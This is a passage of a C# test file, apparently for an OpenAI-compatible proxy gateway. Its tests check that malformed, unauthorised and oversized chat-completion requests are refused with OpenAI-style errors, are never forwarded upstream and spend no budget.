    [InlineData("""{"model":"gpt-test","messages":["x"]}""", 400, "invalid_request_error", "messages")]
    [InlineData("""{"model":"gpt-test","messages":[{"role":"user","content":"x"}],"stream":"yes"}""", 400, "invalid_request_error", "stream")]
    [InlineData("""{"model":"gpt-test","messages":[{"role":"user","content":"x"}],"max_tokens":0}""", 400, "invalid_request_error", "max_tokens")]
    [InlineData("""{"model":"gpt-test","messages":[{"role":"user","content":"x"}],"max_tokens":101}""", 400, "invalid_request_error", "max_tokens")]
    [InlineData("""{"model":"gpt-test","messages":[{"role":"user","content":"x"}],"n":17}""", 400, "invalid_request_error", "n")]
    [InlineData("""{"model":"gpt-other","messages":[{"role":"user","content":"x"}]}""", 404, "invalid_request_error", "model")]
    public async Task A_malformed_request_gets_an_OpenAI_error_and_changes_nothing(string body, int status, string type, string? param)
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        using var client = proxy.Client(workspace.ProxyKey);

        var response = await client.PostAsync(new Uri("v1/chat/completions", UriKind.Relative), new StringContent(workspace.WithModel(body), Encoding.UTF8, "application/json"), Ct);

        Assert.Equal(status, (int)response.StatusCode);
        var error = (await response.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("error");
        Assert.Equal(type, error.GetProperty("type").GetString());
        Assert.Equal(param, error.GetProperty("param").GetString());
        Assert.Empty(upstream.Requests);
        var budget = await workspace.BudgetAsync();
        Assert.Equal(0, budget.GetProperty("spentMicros").GetInt64());
        Assert.Equal(0, budget.GetProperty("reservedMicros").GetInt64());
    }

    [Fact]
    public async Task Keys_without_the_proxy_scope_or_without_a_valid_secret_are_refused_in_OpenAIs_shape()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);

        var unauthenticated = await Assert.ThrowsAsync<ClientResultException>(() => workspace.Chat("plat_nope").CompleteChatAsync([new UserChatMessage("x")], cancellationToken: Ct));
        var wrongScope = await Assert.ThrowsAsync<ClientResultException>(() => workspace.Chat(workspace.OwnerKey).CompleteChatAsync([new UserChatMessage("x")], cancellationToken: Ct));

        Assert.Equal(401, unauthenticated.Status);
        Assert.Equal("authentication_error", JsonDocument.Parse(unauthenticated.GetRawResponse()!.Content.ToString()).RootElement.GetProperty("error").GetProperty("type").GetString());
        Assert.Equal(403, wrongScope.Status);
        Assert.Equal("permission_error", JsonDocument.Parse(wrongScope.GetRawResponse()!.Content.ToString()).RootElement.GetProperty("error").GetProperty("type").GetString());
        Assert.Empty(upstream.Requests);
    }

    [Fact]
    public async Task A_body_over_the_size_limit_is_refused_before_it_is_read()
    {
        await using var upstream = await FakeOpenAiServer.StartAsync();
        var workspace = await proxy.CreateWorkspaceAsync(upstream.BaseUrl);
        using var client = proxy.Client(workspace.ProxyKey);
        var huge = workspace.WithModel($$"""{"model":"gpt-test","messages":[{"role":"user","content":"{{new string('x', 1_100_000)}}"}]}""");

        // The client waits for the gateway's go-ahead before sending the body, as a careful client does: the refusal comes
        // instead, so the test sees the answer rather than a broken pipe from a server that stopped reading.
        using var request = new HttpRequestMessage(HttpMethod.Post, new Uri("v1/chat/completions", UriKind.Relative)) { Content = new StringContent(huge, Encoding.UTF8, "application/json") };
        request.Headers.ExpectContinue = true;
        var response = await client.SendAsync(request, Ct);

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("too large", (await response.Content.ReadFromJsonAsync<JsonElement>(Ct)).GetProperty("error").GetProperty("message").GetString(), StringComparison.Ordinal);
        Assert.Empty(upstream.Requests);
    }

    private static async Task<CallOutcome> CallAsync(ChatClient chat)
    {
        try
        {
            var completion = (await chat.CompleteChatAsync([new UserChatMessage("concurrent")], cancellationToken: Ct)).Value;
            return new CallOutcome(completion.Usage, null);
        }
        catch (ClientResultException ex)
        {
            return new CallOutcome(null, JsonDocument.Parse(ex.GetRawResponse()!.Content.ToString()).RootElement.GetProperty("error").GetProperty("type").GetString());
        }
    }

    private static async Task<JsonElement> EventuallyAsync(Func<Task<JsonElement?>> read)
    {
        var deadline = DateTime.UtcNow.AddSeconds(30);
        while (true)
        {
            if (await read() is { } value)
            {
                return value;
            }

            Assert.True(DateTime.UtcNow < deadline, "timed out waiting for the call to be settled");
            await Task.Delay(20, Ct);
        }
    }

    private static async Task WaitUntilAsync(Func<bool> condition)
    {
        var deadline = DateTime.UtcNow.AddSeconds(60);
        while (!condition())
        {
            Assert.True(DateTime.UtcNow < deadline, "timed out waiting for the callers to be decided");
            await Task.Delay(20, Ct);
        }
    }

    private sealed record CallOutcome(ChatTokenUsage? Usage, string? ErrorType);
}
